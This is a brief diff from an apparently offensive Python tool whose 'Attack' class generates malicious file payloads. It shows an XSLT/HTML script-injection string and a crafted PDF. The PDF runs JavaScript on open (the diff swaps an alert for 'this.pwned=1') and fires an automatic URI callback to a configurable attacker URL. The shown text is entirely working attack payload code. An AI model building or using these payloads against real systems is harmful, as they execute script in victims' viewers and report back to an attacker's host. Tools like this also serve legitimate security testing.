@@ -83,7 +83,7 @@ class Attack:
             f"<script>{self.run}</script></body></html></xsl:template></xsl:stylesheet></x>"
         )
         self.pdf = (
-            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
+            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.pwned=1)>>>>endobj\n"
             "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]"
             f"/AA<</O<</S/URI/URI({self.url}?pdf)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n{self.script}"
         )
